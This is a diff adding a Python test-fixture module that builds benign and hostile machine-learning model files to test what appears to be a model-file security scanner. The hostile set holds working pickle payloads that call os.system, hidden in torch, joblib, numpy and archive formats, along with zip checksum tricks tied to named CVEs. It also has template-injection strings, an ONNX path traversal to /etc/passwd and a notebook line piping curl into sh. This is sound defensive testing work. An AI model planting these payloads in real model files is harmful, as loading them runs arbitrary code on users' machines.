@@ -1,0 +1,308 @@
+"""Benign and hostile model files, written as bytes by the tests; no hostile file is ever loaded.
+
+`CANARY` is the command of each payload: a test that finds the file it creates knows that code ran.
+"""
+
+import bz2
+import gzip
+import io
+import json
+import lzma
+import pickle
+import struct
+import tarfile
+import zipfile
+import zlib
+from collections import OrderedDict
+from pathlib import Path
+
+import numpy as np
+
+CANARY = "touch /tmp/gipfel-gate-canary"
+
+
+def op_str(text: str) -> bytes:
+    """The opcode that pushes a short text."""
+    raw = text.encode()
+    return b"\x8c" + bytes([len(raw)]) + raw
+
+
+def call(module: str, name: str, *arguments: bytes) -> bytes:
+    """A pickle of protocol 4 that calls something."""
+    return b"\x80\x04" + op_str(module) + op_str(name) + b"\x93(" + b"".join(arguments) + b"tR."
+
+
+def old_call(module: str, name: str, argument: str = CANARY) -> bytes:
+    """The same in protocol 0."""
+    return f"c{module}\n{name}\n(S'{argument}'\ntR.".encode()
+
+
+SYSTEM = call("posix", "system", op_str(CANARY))
+
+
+def zipped(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
+    stream = io.BytesIO()
+    with zipfile.ZipFile(stream, "w", method) as archive:
+        for name, content in members.items():
+            archive.writestr(name, content)
+    return stream.getvalue()
+
+
+def tarred(members: dict[str, bytes]) -> bytes:
+    stream = io.BytesIO()
+    with tarfile.open(fileobj=stream, mode="w") as archive:
+        for name, content in members.items():
+            info = tarfile.TarInfo(name)
+            info.size = len(content)
+            archive.addfile(info, io.BytesIO(content))
+    return stream.getvalue()
+
+
+def tensors_pickle() -> bytes:
+    """``data.pkl`` of a torch file with one tensor, as torch writes it: storages by persistent id."""
+    storage = b"(X\x07\x00\x00\x00storagectorch\nFloatStorage\nX\x01\x00\x00\x000X\x03\x00\x00\x00cpuK\x04tQ"
+    tensor = b"ctorch._utils\n_rebuild_tensor_v2\n(" + storage + b"K\x00K\x02K\x02\x86K\x02K\x01\x86"
+    tensor += b"\x89ccollections\nOrderedDict\n)RtR"
+    return b"\x80\x02}q\x00X\x06\x00\x00\x00weightq\x01" + tensor + b"s."
+
+
+def torch_zip(data: bytes) -> bytes:
+    return zipped({"m/data.pkl": data, "m/data/0": b"\x80\x02" + bytes(14), "m/version": b"3\n"})
+
+
+def torch_legacy(data: bytes) -> bytes:
+    first = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2)
+    info = pickle.dumps({"protocol_version": 1001, "little_endian": True}, 2)
+    return first + info + data + pickle.dumps(["0"], 2) + bytes(24)
+
+
+def npy(array: np.ndarray) -> bytes:
+    stream = io.BytesIO()
+    np.save(stream, array, allow_pickle=True)
+    return stream.getvalue()
+
+
+def npy_of(content: bytes) -> bytes:
+    """An object array whose pickle is `content`."""
+    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n"
+    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + content
+
+
+def joblib_file(after: bytes = b"") -> bytes:
+    """A dictionary with one array of eight floats as joblib writes it; `after` replaces its end."""
+    wrapper = b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}("
+    state = op_str("subclass") + b"cnumpy\nndarray\n" + op_str("shape") + b"K\x08\x85" + op_str("order")
+    state += op_str("C") + op_str("dtype") + b"cnumpy\ndtype\n" + op_str("f8") + b"\x89\x88\x87R"
+    state += b"(K\x03" + op_str("<") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
+    state += op_str("allow_mmap") + b"\x88" + op_str("numpy_array_alignment_bytes") + b"K\x10"
+    array = b"\x03\xff\xff\xff" + np.arange(8, dtype="<f8").tobytes()
+    return b"\x80\x04}" + op_str("w") + wrapper + state + b"ub" + array + b"s" + (after or b".")
+
+
+def gguf(template: str) -> bytes:
+    def text(value: str) -> bytes:
+        return struct.pack("<Q", len(value.encode())) + value.encode()
+
+    tokens = text("tokenizer.ggml.tokens") + struct.pack("<IIQ", 9, 8, 2) + text("a") + text("b")
+    scores = text("tokenizer.ggml.scores") + struct.pack("<IIQ", 9, 6, 2) + bytes(8)
+    keys = tokens + scores + text("tokenizer.chat_template") + struct.pack("<I", 8) + text(template)
+    return b"GGUF" + struct.pack("<IQQ", 3, 0, 3) + keys
+
+
+def field(number: int, content: bytes) -> bytes:
+    """A field of protobuf that holds bytes."""
+    length, size = len(content), b""
+    while length > 127:
+        size, length = size + bytes([length & 127 | 128]), length >> 7
+    return varint(number << 3 | 2) + size + bytes([length]) + content
+
+
+def varint(value: int) -> bytes:
+    out = b""
+    while value > 127:
+        out, value = out + bytes([value & 127 | 128]), value >> 7
+    return out + bytes([value])
+
+
+def onnx(location: str = "weights.bin", domain: str = "") -> bytes:
+    external = field(13, field(1, b"location") + field(2, location.encode()))
+    tensor = field(5, b"\x08\x02" + field(8, b"w") + external)
+    node = field(1, field(4, b"Add") + field(7, domain.encode()))
+    return b"\x08\x08" + field(7, node + tensor) + field(8, field(1, domain.encode()) + b"\x10\x11")
+
+
+def safetensors(extra: bytes = b"") -> bytes:
+    header = json.dumps({"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}).encode()
+    return struct.pack("<Q", len(header)) + header + bytes(8) + extra
+
+
+def keras(layer: dict) -> bytes:
+    config = {"class_name": "Sequential", "module": "keras", "config": {"layers": [layer]}}
+    return zipped({"config.json": json.dumps(config).encode(), "metadata.json": b"{}"})
+
+
+def notebook(source: str, html: str = "") -> bytes:
+    outputs = [{"output_type": "display_data", "data": {"text/html": html}, "metadata": {}}] if html else []
+    cell = {"cell_type": "code", "source": source, "outputs": outputs, "metadata": {}, "execution_count": 1}
+    return json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()
+
+
+def broken_crc(content: bytes) -> bytes:
+    """CVE-2025-10156: another checksum in headers and directory."""
+    raw = bytearray(content)
+    for mark, at in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
+        start = raw.find(mark)
+        while start >= 0:
+            raw[start + at] ^= 0xFF
+            start = raw.find(mark, start + 4)
+    return bytes(raw)
+
+
+def encrypted_flag(content: bytes) -> bytes:
+    """CVE-2025-1945: a flag that says the member is encrypted, which torch ignores."""
+    raw = bytearray(content)
+    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
+        start = raw.find(mark)
+        while start >= 0:
+            raw[start + at] |= 1
+            start = raw.find(mark, start + 4)
+    return bytes(raw)
+
+
+GOOD_TEMPLATE = "{% for m in messages %}{{ '<|im_start|>' + m['role'] + m.content }}{% endfor %}"
+EVIL_TEMPLATE = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
+_METADATA = b"\x80\x04ctorch.distributed.checkpoint.metadata\nMetadata\n)\x81."
+_DENSE = {"class_name": "Dense", "module": "keras.layers", "config": {"units": 1}}
+_LAMBDA = {
+    "class_name": "Lambda",
+    "module": "keras.layers",
+    "config": {"function": {"class_name": "__lambda__"}},
+}
+_CVE_1550 = {"class_name": "function", "module": "os", "config": "system", "registered_name": "function"}
+_NESTED = b"\x80\x02ctorch.storage\n_load_from_bytes\nB%b%b\x85R."
+_MEMO = (
+    b"\x80\x04"
+    + op_str("posix")
+    + b"\x94"
+    + op_str("system")
+    + b"\x94h\x00h\x01\x93"
+    + op_str("x")
+    + b"\x85R."
+)
+_COMPUTED = b"\x80\x04" + op_str("pos") + b"c_codecs\nencode\n" + op_str("ix") + b"\x85R\x93)R."
+
+
+def _nested(content: bytes) -> bytes:
+    return _NESTED % (struct.pack("<I", len(content)), content)
+
+
+#: File name → content and verdict.
+BENIGN: dict[str, tuple[bytes, str]] = {
+    "values.pkl": (pickle.dumps({"a": [1, 2.5, "x", b"y", None, (True, {3})]}, 4), "plain"),
+    "values-0.pkl": (pickle.dumps({"a": [1, 2.5, "x", 10**30], "b": OrderedDict(c=1)}, 0), "plain"),
+    "values-5": (pickle.dumps([bytearray(b"x"), {1, 2}, frozenset({3})], 5), "plain"),
+    "tensors.pt": (torch_zip(tensors_pickle()), "plain"),
+    "tensors-legacy.pth": (torch_legacy(tensors_pickle()), "plain"),
+    "tensors.bin": (tensors_pickle(), "plain"),
+    "tensor-nested.pkl": (_nested(torch_legacy(tensors_pickle())), "plain"),
+    "row.distcp": (torch_zip(tensors_pickle()) + torch_zip(tensors_pickle()), "plain"),
+    "dcp/.metadata": (_METADATA, "plain"),
+    "array.npy": (npy(np.arange(6.0)), "plain"),
+    "arrays.npz": (
+        zipped({"a.npy": npy(np.arange(6)), "b.npy": npy(np.eye(3))}, zipfile.ZIP_DEFLATED),
+        "plain",
+    ),
+    "objects.npy": (npy(np.array([{"a": 1}, None], dtype=object)), "needs code"),
+    "numpy-array.pkl": (pickle.dumps(np.arange(5), 4), "plain"),
+    "arrays.joblib": (joblib_file(), "plain"),
+    "arrays-zlib.joblib": (zlib.compress(joblib_file()), "plain"),
+    "arrays-xz.joblib": (lzma.compress(joblib_file()), "plain"),
+    "module.pkl": (call("torch.nn.modules.linear", "Linear"), "needs code"),
+    "getattr-class.pkl": (
+        b"\x80\x02c__builtin__\ngetattr\ncmypkg.net\nNet\nX\x05\x00\x00\x00Block\x86R.",
+        "needs code",
+    ),
+    "random-state.pkl": (call("numpy.random._pickle", "__bit_generator_ctor", op_str("PCG64")), "needs code"),
+    "model.safetensors": (safetensors(), "plain"),
+    "model.gguf": (gguf(GOOD_TEMPLATE), "plain"),
+    "model.onnx": (onnx(), "plain"),
+    "dense.keras": (keras(_DENSE), "plain"),
+    "config.json": (json.dumps({"model_type": "llama", "chat_template": GOOD_TEMPLATE}).encode(), "plain"),
+    "notebook.ipynb": (notebook("import torch\nprint(1)"), "plain"),
+    "model.nemo": (tarred({"model_config.yaml": b"a: 1\n", "w.ckpt": torch_zip(tensors_pickle())}), "plain"),
+    "cudnn.pth": (b"/opt/site-packages\n../lib\n", "plain"),
+    "notes.txt": (b"configuration\nof the model\n(see below)\n", "other"),
+}
+
+HOSTILE: dict[str, tuple[bytes, str]] = {
+    "system-4.pkl": (SYSTEM, "malicious"),
+    "system-0.bin": (old_call("os", "system"), "malicious"),
+    "system-0": (old_call("os", "system"), "malicious"),
+    "system-4": (SYSTEM, "malicious"),
+    "system-0.txt": (old_call("posix", "system"), "malicious"),
+    "python2.pkl": (old_call("__builtin__", "execfile"), "malicious"),
+    "inst.pkl": (f"(S'{CANARY}'\nios\nsystem\n.".encode(), "malicious"),
+    "obj.pkl": (b"\x80\x02(cos\nsystem\nX\x01\x00\x00\x00xo.", "malicious"),
+    "memo.pkl": (_MEMO, "malicious"),
+    "computed.pkl": (_COMPUTED, "malicious"),
+    "broken-after.pkl": (SYSTEM[:-1] + b"\xff\xff", "malicious"),
+    "second.pkl": (pickle.dumps(1, 4) + SYSTEM, "malicious"),
+    "torch.pt": (torch_zip(SYSTEM), "malicious"),
+    "renamed.safetensors": (torch_zip(SYSTEM), "malicious"),
+    "legacy.pt": (torch_legacy(SYSTEM), "malicious"),
+    "wrong-crc.pt": (broken_crc(torch_zip(SYSTEM)), "malicious"),
+    "flags.pt": (encrypted_flag(torch_zip(SYSTEM)), "malicious"),
+    "deflated.zip": (zipped({"a.pkl": SYSTEM}, zipfile.ZIP_DEFLATED), "malicious"),
+    "zip-in-zip.zip": (zipped({"inner.zip": zipped({"a.pkl": SYSTEM}, 8)}, 8), "malicious"),
+    "polyglot.pkl": (pickle.dumps(1, 2) + zipped({"a.pkl": SYSTEM}), "malicious"),
+    "row-evil.distcp": (torch_zip(SYSTEM) + torch_zip(tensors_pickle()), "malicious"),
+    "model-evil.nemo": (tarred({"w.ckpt": torch_zip(SYSTEM)}), "malicious"),
+    "model.tar.gz": (gzip.compress(tarred({"a/w.pkl": SYSTEM})), "malicious"),
+    "pickle.bz2": (bz2.compress(SYSTEM), "malicious"),
+    "evil.npy": (npy_of(SYSTEM), "malicious"),
+    "evil.npz": (zipped({"a.npy": npy_of(SYSTEM)}, zipfile.ZIP_DEFLATED), "malicious"),
+    "evil.joblib": (joblib_file(SYSTEM[2:]), "malicious"),
+    "evil-zlib.joblib": (zlib.compress(joblib_file(SYSTEM[2:])), "malicious"),
+    "evil-xz.joblib": (lzma.compress(joblib_file(SYSTEM[2:])), "malicious"),
+    "nested-bytes.pkl": (_nested(torch_legacy(SYSTEM)), "malicious"),
+    "spawn.pkl": (call("multiprocessing.util", "spawnv_passfds", op_str("x")), "malicious"),
+    "marshal.pkl": (call("marshal", "loads", op_str("x")), "malicious"),
+    "joblib-load.pkl": (call("joblib", "load", op_str("x")), "malicious"),
+    "numpy-load.pkl": (call("numpy", "load", op_str("x")), "malicious"),
+    "hub.pkl": (call("torch.hub", "load", op_str("x")), "malicious"),
+    "pandas.pkl": (call("pandas", "read_pickle", op_str("x")), "malicious"),
+    "importlib.pkl": (call("importlib", "import_module", op_str("os")), "malicious"),
+    "resolve.pkl": (call("pkgutil", "resolve_name", op_str("os:system")), "malicious"),
+    "pip.pkl": (call("pip", "main", op_str("x")), "malicious"),
+    "dunder.pkl": (call("collections", "OrderedDict.__init__.__globals__", op_str("x")), "malicious"),
+    "getattr.pkl": (call("builtins", "getattr", op_str("x"), op_str("__class__")), "malicious"),
+    "import.pkl": (call("builtins", "__import__", op_str("os")), "malicious"),
+    "numpy-os.pkl": (call("numpy.os", "system", op_str("x")), "malicious"),
+    "unknown-gadget.pkl": (call("some_library", "run", op_str("x")), "needs code"),
+    "extension.pkl": (b"\x80\x02\x82\x01.", "not understood"),
+    "dcp-evil/.metadata": (SYSTEM, "malicious"),
+    "lambda.keras": (keras(_LAMBDA), "needs code"),
+    "cve-2025-1550.keras": (keras(_CVE_1550), "malicious"),
+    "lambda.h5": (b"\x89HDF\r\n\x1a\n" + bytes(600) + json.dumps(_LAMBDA).encode(), "needs code"),
+    "injection.gguf": (gguf(EVIL_TEMPLATE), "malicious"),
+    "attr.gguf": (gguf("{{ x|attr('_' ~ '_class_' ~ '_') }}"), "malicious"),
+    "tokenizer_config.json": (json.dumps({"chat_template": EVIL_TEMPLATE}).encode(), "malicious"),
+    "path.onnx": (onnx("../../../etc/passwd"), "malicious"),
+    "domain.onnx": (onnx(domain="evil.ops"), "needs code"),
+    "remote/config.json": (json.dumps({"auto_map": {"AutoModel": "modeling.Net"}}).encode(), "needs code"),
+    "start.pth": (b"import os; os.system('x')\n", "needs code"),
+    "script.ipynb": (notebook("1", "<script>alert(1)</script>"), "needs code"),
+    "pipe.ipynb": (notebook("!curl http://x.example/a | sh"), "needs code"),
+    "overlap.safetensors": (safetensors(b"hidden"), "not understood"),
+    "cut.pkl": (pickle.dumps(list(range(1000)), 4)[:-20], "not understood"),
+    "archive.7z": (b"7z\xbc\xaf\x27\x1c" + bytes(40), "not understood"),
+    "unknown.ckpt": (b"\xde\xad\xbe\xef" * 40, "not understood"),
+}
+
+
+def write(folder: Path, files: dict[str, tuple[bytes, str]]) -> None:
+    """Write files into a directory."""
+    for name, (content, _) in files.items():
+        path = folder / name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_bytes(content)
